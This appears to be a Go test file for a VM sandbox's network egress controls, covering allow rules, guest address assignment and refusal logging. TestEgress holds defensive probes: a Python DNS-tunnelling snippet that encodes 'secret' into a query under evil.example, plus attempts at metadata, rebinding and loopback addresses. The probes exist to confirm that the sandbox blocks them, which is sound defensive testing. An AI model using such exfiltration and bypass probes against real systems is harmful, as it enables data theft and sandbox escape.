package aethervm

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/aethervm/aether/internal/testenv"
	"github.com/aethervm/aether/sandbox"
	"github.com/aethervm/aether/vmm"
)

func TestNetworkOfSpec(t *testing.T) {
	n, err := newNetwork("create", sandbox.Spec{}, outside{}, &cards{})
	if n != nil || err != nil || n.config() != nil || n.addresses().Address.IsValid() {
		t.Errorf("without a network: %+v, %v", n, err)
	}
	n, err = newNetwork("create", sandbox.Spec{Network: sandbox.NetworkOutbound}, outside{}, &cards{})
	if err != nil {
		t.Fatal(err)
	}
	everything := netip.MustParsePrefix("0.0.0.0/0")
	if want := []vmm.Rule{{Name: "*"}, {Prefix: everything}}; !slices.Equal(n.config().Allow, want) {
		t.Errorf("without rules: %+v", n.config().Allow)
	}
	n, err = newNetwork("create", sandbox.Spec{Network: sandbox.NetworkOutbound, Egress: []string{"tcp://*:443", "pypi.org", "10.1.2.0/24:1-2"}}, outside{}, &cards{})
	if err != nil {
		t.Fatal(err)
	}
	if want := []vmm.Rule{
		{Name: "*", Protocol: "tcp", FirstPort: 443, LastPort: 443},
		{Prefix: everything, Protocol: "tcp", FirstPort: 443, LastPort: 443},
		{Name: "pypi.org"},
		{Prefix: netip.MustParsePrefix("10.1.2.0/24"), FirstPort: 1, LastPort: 2},
	}; !slices.Equal(n.config().Allow, want) {
		t.Errorf("with rules: %+v", n.config().Allow)
	}
	_, err = newNetwork("create", sandbox.Spec{Network: sandbox.NetworkOutbound, Egress: []string{cardRange.String()}}, outside{}, &cards{})
	if e, ok := errors.AsType[*sandbox.Error](err); !ok || !errors.Is(err, sandbox.ErrUnsupported) || e.Remedy == "" {
		t.Errorf("no addresses left for the guest: %v", err)
	}
}

// A guest's own network is none that it may want to reach, and no other sandbox of the driver has it.
func TestCards(t *testing.T) {
	rules := []vmm.Rule{{Prefix: netip.MustParsePrefix("198.18.0.0/16")}, {Prefix: netip.MustParsePrefix("0.0.0.0/0")}}
	var all cards
	macs, addresses := map[[6]byte]bool{}, map[netip.Prefix]bool{}
	const n = cardCount / 2 // what the rules leave
	for range n {
		card, ok := all.next(rules)
		if !ok || !cardRange.Overlaps(card.Address) || rules[0].Prefix.Overlaps(card.Address) || card.Address.Bits() != 30 ||
			!card.Address.Contains(card.Gateway) || card.Gateway == card.Address.Addr() || card.MAC[0]&3 != 2 {
			t.Fatalf("%+v", card)
		}
		macs[card.MAC], addresses[card.Address] = true, true
	}
	if len(macs) != n || len(addresses) != n {
		t.Errorf("%d cards have %d hardware addresses and %d others", n, len(macs), len(addresses))
	}
}

// fetch is a program that gets a URL and says what came, or why nothing did.
const fetch = `
import sys, urllib.request
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=30).read().decode())
except OSError as e:
    print("refused:", e)
`

// reach runs fetch for each URL, and checks what came of it.
func reach(t *testing.T, b sandbox.Sandbox, wants map[string]string) {
	t.Helper()
	for url, want := range wants {
		var out bytes.Buffer
		exit, err := b.Exec(bounded(t), sandbox.Cmd{Args: []string{"python3", "-c", fetch, url}, Stdout: &out, Stderr: &out})
		if err != nil || !exit.Success() || !strings.Contains(out.String(), want) {
			t.Errorf("%s: %q, %v, %v; want %q", url, out.String(), exit, err, want)
		}
	}
}

// serve is a server of this host at an address.
func serve(t *testing.T, address string) *httptest.Server {
	t.Helper()
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "hello %s", r.Host) }))
	_ = s.Listener.Close()
	s.Listener = l
	s.Start()
	t.Cleanup(s.Close)
	return s
}

// refused checks that a sandbox's record has entries for what it was refused.
func refused(t *testing.T, b sandbox.Sandbox, wants ...string) {
	t.Helper()
	for _, want := range wants {
		for start := time.Now(); ; time.Sleep(10 * time.Millisecond) { // it comes from another process
			log, err := b.(sandbox.EgressLogger).EgressLog(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			if slices.ContainsFunc(log.Refused, func(f sandbox.RefusedFlow) bool {
				return f.Protocol+" "+f.Address+f.Name == want && f.Count > 0 && !f.First.IsZero() && !f.Last.Before(f.First)
			}) {
				break
			}
			if time.Since(start) > 5*time.Second {
				t.Errorf("%q is not in %+v", want, log)
				break
			}
		}
	}
}

// A program reaches by name what the rules allow, and nothing else, whatever it tries.
func TestEgress(t *testing.T) {
	d := open(t)
	server := serve(t, "127.0.0.1:0")
	d.outside = outside{
		resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
			switch name {
			case "allowed.example.":
				return []netip.Addr{netip.MustParseAddr("203.0.113.7")}, nil
			case "rebind.allowed.example.":
				return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254"), netip.MustParseAddr("10.0.0.1")}, nil
			}
			t.Errorf("the host's resolver was asked for %q", name)
			return nil, errors.New("unexpected name")
		},
		dial: func(ctx context.Context, network, address string) (net.Conn, error) {
			if network != "tcp" || address != "203.0.113.7:80" {
				t.Errorf("a flow to %s %s", network, address)
			}
			var dialer net.Dialer
			return dialer.DialContext(ctx, "tcp", server.Listener.Addr().String())
		},
	}
	b, err := d.Create(bounded(t), sandbox.Spec{Image: testenv.Image(t), VCPUs: vcpus(t), Network: sandbox.NetworkOutbound,
		Egress: []string{"tcp://allowed.example:80", "*.allowed.example:80"}})
	if err != nil {
		t.Fatal(err)
	}
	reach(t, b, map[string]string{
		"http://203.0.113.7/":                             "refused:", // not before it was looked up
		"http://denied.example/":                          "refused:",
		"http://rebind.allowed.example/":                  "refused:",
		"http://203.0.113.8/":                             "refused:",
		"http://169.254.169.254/latest":                   "refused:",
		"http://10.0.0.1/":                                "refused:",
		"http://[2001:db8::1]/":                           "refused:",
		"http://[::ffff:203.0.113.7]/":                    "refused:",
		"http://198.18.255.255:80/":                       "refused:",
		"http://" + server.Listener.Addr().String() + "/": "refused:", // its own loopback
	})
	reach(t, b, map[string]string{"http://allowed.example/": "hello allowed.example"})
	reach(t, b, map[string]string{"http://allowed.example:81/": "refused:", "http://203.0.113.7/": "hello 203.0.113.7"})
	const tunnel = `
import socket, struct
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
def ask(name, kind, to):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((to, 53))
    try:
        s.send(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">2H", kind, 1))
        answer = s.recv(65535)
        return "code %d answers %d" % (answer[3] & 15, struct.unpack(">H", answer[6:8])[0])
    except OSError:
        return "nothing"
print(ask("c2VjcmV0." + "x" * 60 + ".evil.example", 16, server))
print(ask("allowed.example", 16, server))
print(ask("allowed.example", 1, "8.8.8.8"))
`
	if got := sh(t, b, "python3 -c '"+tunnel+"'"); got != "code 3 answers 0\ncode 0 answers 0\nnothing" {
		t.Errorf("over DNS: %q", got)
	}
	refused(t, b, "dns denied.example", "tcp 203.0.113.8:80", "tcp 169.254.169.254:80", "tcp 10.0.0.1:80", "tcp 203.0.113.7:80",
		"tcp 203.0.113.7:81", "udp 8.8.8.8:53", "dns c2vjcmv0."+strings.Repeat("x", 60)+".evil.example")
	if err := b.Close(); err != nil {
		t.Error(err)
	}
	if _, err := b.(sandbox.EgressLogger).EgressLog(t.Context()); !errors.Is(err, sandbox.ErrClosed) {
		t.Errorf("after Close: %v", err)
	}
}

// Where everything is allowed, the host's own addresses are not, whatever they are; a rule for nothing but
// one of them is.
func TestEgressToTheHost(t *testing.T) {
	d := open(t)
	own := alias(t, "203.0.113.9")
	server := serve(t, own+":0")
	_, port, err := net.SplitHostPort(server.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	url := "http://" + own + ":" + port + "/"
	for _, c := range []struct {
		rules []string
		want  string
	}{{nil, "refused:"}, {[]string{own + ":" + port}, "hello " + own}} {
		b, err := d.Create(bounded(t), sandbox.Spec{Image: testenv.Image(t), VCPUs: vcpus(t), Network: sandbox.NetworkOutbound, Egress: c.rules})
		if err != nil {
			t.Fatal(err)
		}
		reach(t, b, map[string]string{url: c.want})
		if c.want == "refused:" {
			refused(t, b, "tcp "+own+":"+port)
		}
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	}
}

// alias gives this host one more address.
func alias(t *testing.T, address string) string {
	t.Helper()
	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(socket)
	req, err := unix.NewIfreq("lo:9")
	if err != nil {
		t.Fatal(err)
	}
	for _, set := range []struct {
		request uint
		value   netip.Addr
	}{{unix.SIOCSIFADDR, netip.MustParseAddr(address)}, {unix.SIOCSIFNETMASK, netip.MustParseAddr("255.255.255.255")}} {
		if err := req.SetInet4Addr(set.value.AsSlice()); err != nil {
			t.Fatal(err)
		}
		if err := unix.IoctlIfreq(socket, set.request, req); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() {
		socket, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer unix.Close(socket)
		req.SetUint16(0) // down, and gone
		if err := unix.IoctlIfreq(socket, unix.SIOCSIFFLAGS, req); err != nil {
			t.Error(err)
		}
	})
	return address
}
